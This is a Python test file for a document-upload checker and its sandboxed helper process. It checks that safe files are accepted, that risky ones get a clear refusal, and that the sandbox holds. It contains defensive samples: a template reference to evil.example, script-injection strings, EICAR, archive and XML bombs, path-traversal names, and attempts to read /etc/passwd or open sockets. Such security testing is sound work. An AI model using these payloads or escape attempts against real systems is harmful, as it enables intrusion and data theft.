"""What is taken, what is not, and that each refusal says what to do. Every file goes through the real process."""

from __future__ import annotations

import io
import os
import signal
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from opensdo.papers.documents import bounded
from opensdo.papers.documents.bounded import OPENER, ROOT, Busy, Unanswered, _understood
from opensdo.papers.documents.rules import DOCX, JPEG, PDF, PNG, XLSX, NotAccepted, clean_name
from opensdo.papers.documents.tests import files
from opensdo.papers.documents.walls import version

PICTURE = files.picture("JPEG", (640, 480))
MACRO_TYPE = b'<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
TEMPLATE = b'<R Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>'
XML_BOMB = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><w>&b;</w>'

GOOD = [
    ("agreement.pdf", "application/pdf", files.pdf(), PDF, 2),
    ("AGREEMENT.PDF", "application/octet-stream", files.pdf(), PDF, 2),
    ("scan.jpg", "image/jpeg", files.picture("JPEG"), JPEG, 1),
    ("scan.png", "", files.picture(), PNG, 1),
    ("letter.docx", DOCX.content_type, files.letter("Dear office"), DOCX, None),
    ("sums.xlsx", XLSX.content_type, files.workbook(("a", "b")), XLSX, None),
    ("live photo.jpg", "image/jpeg", PICTURE + b"\0\0\0\x18ftypmp42" + b"\0" * 200, JPEG, 1),
    ("📄 письмо.pdf", "application/pdf", files.pdf(), PDF, 2),
    ("long.pdf", "application/pdf", files.pdf(pages=1000), PDF, 1000),
    ("200 miles wide.pdf", "application/pdf", files.wide_pdf(), PDF, 1),
]
BAD = [
    ("one byte", "a.pdf", "application/pdf", b"%", "cannot use this type"),
    ("words", "agreement.pdf", "application/pdf", b"hello", "cannot use this type"),
    ("SVG with a script", "page.svg", "image/svg+xml", b"<svg onload='alert(1)'/>", "Save it as a JPEG"),
    ("WebP", "photo.webp", "image/webp", b"RIFF\x20\0\0\0WEBPVP8 " + b"\0" * 40, "Save it as a JPEG"),
    ("letter of a Mac", "lease.pages", "", files.packed({"Index/Document.iwa": b"x"}), "save it as a PDF"),
    ("letter of LibreOffice", "lease.odt", "", files.packed({"content.xml": b"<x/>"}), "save it as a PDF"),
    ("saved mail as text", "mail.eml", "message/rfc822", b"From: a@b.example\n\nhello", "saved e-mail"),
    ("web page", "page.html", "text/html", b"<html><script>alert(1)</script>", "Print it to a PDF"),
    ("old Word", "old.doc", "application/msword", files.old_container("WordDocument"), "save it as .docx"),
    ("old Excel", "old.xls", "", files.old_container("Workbook"), "old Word or Excel"),
    ("saved mail", "mail.msg", "", files.old_container("__substg1.0_0037001F"), "saved e-mail"),
    ("locked Word", "a.docx", "", files.old_container("EncryptedPackage"), "locked"),
    ("iPhone picture", "photo.heic", "image/heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic", "Most Compatible"),
    ("renamed HEIC", "photo.jpg", "image/jpeg", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic", "Most Compatible"),
    ("CSV", "table.csv", "text/csv", b"a,b\n1,2\n", "plain text"),
    ("CSV called a table", "table.xlsx", "", b"a,b\n1,2\n", "cannot use this type"),
    ("zip", "files.zip", "application/zip", files.packed({"a.txt": b"a"}), "packed folder"),
    ("empty zip", "files.zip", "", b"PK\x05\x06" + b"\0" * 18, "packed folder"),
    ("EICAR as text", "virus.txt", "text/plain", files.EICAR, "plain text"),
    ("EICAR in a zip", "virus.zip", "", files.packed({"eicar.com": files.EICAR}), "packed folder"),
    ("EICAR in a letter", "v.docx", "", files.office(more={"word/media/a.png": files.EICAR}), "the test virus"),
    ("EICAR behind a PDF", "v.pdf", "", files.pdf() + files.EICAR, "the test virus"),
    ("other content", "scan.pdf", "application/pdf", files.picture(), "inside it is a PNG picture"),
    ("no ending", "scan", "image/png", files.picture(), "ends in nothing"),
    ("ending of a program", "run.exe", "image/png", files.picture(), "“.exe”"),
    ("two endings", "scan.png.exe", "image/png", files.picture(), "“.exe”"),
    ("other claim", "scan.png", "text/html", files.picture(), "Print it to a new PDF"),
    ("macro ending", "a.docm", "", files.letter("x"), "“.docm”"),
    ("locked PDF", "locked.pdf", "application/pdf", files.pdf(password="x"), "locked"),
    ("script in a PDF", "script.pdf", "application/pdf", files.pdf(script=True), "run something"),
    ("launch in a PDF", "launch.pdf", "application/pdf", files.pdf(action="/Launch"), "run something"),
    ("form sent by itself", "form.pdf", "application/pdf", files.pdf(action="/SubmitForm"), "run something"),
    ("attached", "attached.pdf", "application/pdf", files.pdf(attachment=True), "attached"),
    ("broken PDF", "broken.pdf", "application/pdf", b"%PDF-1.7\nnothing here", "damaged"),
    ("cut PDF", "cut.pdf", "application/pdf", files.pdf(pages=9)[:400], "damaged"),
    ("10,000 pages", "long.pdf", "application/pdf", files.pdf(pages=10_000), "more than 1,000 pages"),
    ("endless PDF", "deep.pdf", "application/pdf", files.endless_pdf(), "damaged"),
    ("PDF and zip", "two.pdf", "application/pdf", files.pdf() + files.packed({"a.txt": b"a"}), "hidden"),
    ("PDF and page", "two.pdf", "", files.pdf().replace(b"\n", b"\n%<html><script>\n", 1), "web page|damaged"),
    ("PNG and zip", "two.png", "image/png", files.picture() + files.packed({"a.txt": b"a"}), "hidden"),
    ("JPEG and page", "two.jpg", "image/jpeg", PICTURE + b"<script>alert(1)</script>", "script hidden"),
    ("JPEG and PDF", "two.jpg", "", PICTURE[:2] + b"\xff\xfe\x00\x0a%PDF-1.4" + PICTURE[2:], "another file|damaged"),
    ("half a PNG", "half.png", "image/png", files.picture()[:40], "damaged"),
    ("half a JPEG", "half.jpg", "image/jpeg", PICTURE[: len(PICTURE) // 2], "damaged"),
    ("900 million pixels", "wide.png", "image/png", files.huge_picture(), "too large"),
    ("4,000 million pixels", "wide.jpg", "image/jpeg", files.wide_jpeg(), "too large"),
    ("four colours each", "wide.png", "image/png", files.huge_picture(9_900, colours=6), "too large"),
    ("60,000 deep", "deep.pdf", "application/pdf", files.deep_pdf(), "damaged"),
    ("macros", "macro.docx", "", files.office(more={"word/vbaProject.bin": b"x"}), "macros"),
    ("macros by type", "macro.docx", "", files.office(more={"[Content_Types].xml": MACRO_TYPE}), "macros"),
    ("template elsewhere", "t.docx", "", files.office(more={"word/_rels/s.xml.rels": TEMPLATE}), "from elsewhere"),
    ("other file inside", "inside.docx", "", files.office(more={"word/embeddings/a.bin": b"x"}), "other files"),
    ("nested office", "nest.docx", "", files.office(more={"word/media/a.png": files.letter("x")}), "other files"),
    ("program inside", "p.docx", "", files.office(more={"word/media/a.png": b"MZ" + b"\0" * 90}), "other files"),
    ("flat bomb", "bomb.docx", "", files.bomb(), "unpacks"),
    ("lying bomb", "bomb.docx", "", files.lying_bomb(), "unpacks|damaged"),
    (
        "nested bomb",
        "bomb.docx",
        "",
        files.office(more={"word/a.bin": files.packed({"b": b"\0" * 9**7})}),
        "other files",
    ),
    ("XML bomb", "x.docx", "", files.office(more={"word/document.xml": XML_BOMB}), "damaged"),
]


def sent(name: str, claim: str, body: bytes, *, deep: bool = False) -> dict[str, object]:
    with tempfile.TemporaryFile() as content:
        content.write(body)
        content.flush()
        said, _ = OPENER.ask(content, seconds=60, do="check", name=name, claim=claim, deep=deep)
        return said


@pytest.mark.parametrize(("name", "claim", "body", "kind", "pages"), GOOD, ids=[row[0] for row in GOOD])
def test_an_honest_file_is_taken(name: str, claim: str, body: bytes, kind: object, pages: int | None) -> None:
    said = sent(name, claim, body, deep=True)
    assert (said["type"], said["pages"]) == (getattr(kind, "content_type", ""), pages)


@pytest.mark.parametrize(("name", "claim", "body", "words"), [row[1:] for row in BAD], ids=[row[0] for row in BAD])
def test_another_is_refused_in_a_sentence(name: str, claim: str, body: bytes, words: str) -> None:
    with pytest.raises(NotAccepted, match=words) as refused:
        sent(name, claim, body)
    assert str(refused.value).endswith(".")


@settings(max_examples=60)
@given(
    st.binary(max_size=3000),
    st.sampled_from([b"", b"%PDF-1.4\n", b"PK\x03\x04", b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n"]),
)
def test_no_bytes_make_it_fall_over(body: bytes, start: bytes) -> None:
    for name in ("a.pdf", "a.docx", "a.jpg"):
        with pytest.raises(NotAccepted):
            sent(name, "", start + body)


HARM = {  # what a library that was taken over may try, and how it ends
    "while True: pass": -signal.SIGXCPU,
    "signal.pause()": -signal.SIGALRM,
    "bytearray(2_000_000_000)": MemoryError,
    "open('/etc/passwd')": OSError,
    "socket.socket()": OSError,
    "os.pipe()": OSError,
    "os.open('/tmp/x', os.O_CREAT)": OSError,
    "os.close(2); open('/etc/passwd')": OSError,
    "os.close(2); socket.socket()": OSError,
}
WITHOUT_OPENING = {  # needs no open file, and is stopped by the kernel's walls
    "os.unlink(victim)": OSError,
    "os.rename(victim, victim + '2')": OSError,
    "os.truncate(victim, 0)": OSError,
    "os.mkdir(victim + '3')": OSError,
    "os.execv('/bin/true', ['true'])": OSError,
    "os.kill(os.getppid(), 0)": OSError,
}
WALLS = pytest.mark.skipif(version() < 6, reason="this kernel has no Landlock, or one that knows no signals")
ATTEMPTS = [*HARM.items(), *(pytest.param(*each, marks=WALLS) for each in WITHOUT_OPENING.items())]


@pytest.mark.parametrize(("harm", "end"), ATTEMPTS, ids=[*HARM, *WITHOUT_OPENING])
def test_the_process_is_bounded(harm: str, end: int | type[Exception], tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.write_text("a file of this test: without the bounds the harm is done to it")
    program = f"""
import os, signal, socket, sys
victim = {str(victim)!r}
from opensdo.papers.documents.inspection import narrow
narrow([0, 1], seconds=1)
try:
    {harm}
except Exception as error:
    os.write(1, type(error).__mro__[-4 if isinstance(error, OSError) else 0].__name__.encode())
"""
    ended = subprocess.run([sys.executable, "-c", program], env={"PYTHONPATH": str(ROOT)}, capture_output=True)
    if isinstance(end, int):
        assert ended.returncode in (end, -signal.SIGALRM, -signal.SIGKILL)  # all three are the kernel's
    else:
        assert ended.stdout.decode() == end.__name__


def test_no_answer_is_no_yes_and_the_next_file_is_looked_into() -> None:
    with tempfile.TemporaryFile() as content, pytest.raises(Unanswered):
        OPENER.ask(content, seconds=1, do="fall over")
    assert OPENER.helper
    OPENER.helper.kill()
    OPENER.helper.wait()
    assert sent("a.png", "", files.picture())["pages"] == 1


def test_one_that_is_stuck_is_ended_and_the_next_file_is_looked_into(monkeypatch: pytest.MonkeyPatch) -> None:
    """It does not die of a signal, and answers nothing: everybody after it would wait for nothing."""
    monkeypatch.setattr(bounded, "GRACE", 0.1)
    sent("a.png", "", files.picture())
    stuck = OPENER.helper
    assert stuck
    stuck.send_signal(signal.SIGSTOP)
    with tempfile.TemporaryFile() as content, pytest.raises(Unanswered):
        OPENER.ask(content, seconds=0, do="check")
    assert stuck.poll() == -signal.SIGKILL
    assert sent("a.png", "", files.picture())["pages"] == 1


LIES = {
    "a number": b"1\n",
    "a list": b"[]\n",
    "nothing": b"{}\n",
    "nested without end": b"[" * 100_000,
    "a type that runs": b'{"type": "text/html", "pages": 1}\n',
    "pages that are none": b'{"type": "application/pdf", "pages": -1}\n',
    "more pages than there are": b'{"type": "application/pdf", "pages": 99999999999}\n',
    "half a character": b'{"text": "\\ud800"}\n',
    "a refusal of many lines": b'{"refused": "a\\u0000b"}\n',
    "a refusal without end": b'{"refused": "' + b"a" * 9000 + b'"}\n',
    "parts that are none": b'{"parts": "x"}\n',
    "a page for a picture": b'{"width": 1, "height": 1}\n<html><script>',
    "more than was asked": b'{"text": ""}\n<html><script>',
    "an answer and more": b'{"text": "", "type": "application/pdf"}\n',
}


@pytest.mark.parametrize("answer", LIES.values(), ids=list(LIES))
def test_a_lie_is_no_answer(answer: bytes) -> None:
    head, _, body = answer.partition(b"\n")
    with pytest.raises(Unanswered):
        _understood(head, body)


def test_the_process_has_a_view_of_the_file_of_its_own() -> None:
    """Else it could move our place in it, or write, between its own look and that of the virus scanner."""
    with tempfile.TemporaryFile(buffering=0) as content:
        content.write(files.pdf())
        content.seek(5)
        OPENER.ask(content, seconds=60, do="check", name="a.pdf", claim="", deep=False)
        assert os.lseek(content.fileno(), 0, os.SEEK_CUR) == 5


def test_nobody_waits_long_for_a_turn(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(bounded, "PATIENCE", 0.01)
    with OPENER.places, OPENER.places, tempfile.TemporaryFile() as content, pytest.raises(Busy):
        OPENER.ask(content, seconds=1, do="check")


@pytest.mark.parametrize(
    ("given_name", "kept"),
    [
        ("C:\\Users\\ada\\tax 2025.pdf", "tax 2025.pdf"),
        ("../../etc/passwd", "passwd"),
        ("a\x00b.pdf", "a b.pdf"),
        ("fdp.\u202efdp.exe", "fdp. fdp.exe"),
        ("\u2066\u200b\ufeffscan\u2069.pdf", "scan .pdf"),
        ("", "file"),
        ("...", "file"),
        ("CON.pdf", "file CON.pdf"),
        ("lpt1", "file lpt1"),
        ("🧾 рахунок.pdf", "🧾 рахунок.pdf"),
        ("é" * 300 + ".pdf", "é" * 196 + ".pdf"),
        ("a." + "b" * 5000, "a." + "b" * 198),
    ],
)
def test_a_name_is_made_harmless(given_name: str, kept: str) -> None:
    assert clean_name(given_name) == kept


@given(st.text(max_size=400))
def test_no_name_is_too_long_or_empty(name: str) -> None:
    kept = clean_name(name)
    assert 0 < len(kept) <= 200
    io.BytesIO(kept.encode())  # no half of a pair is left in it
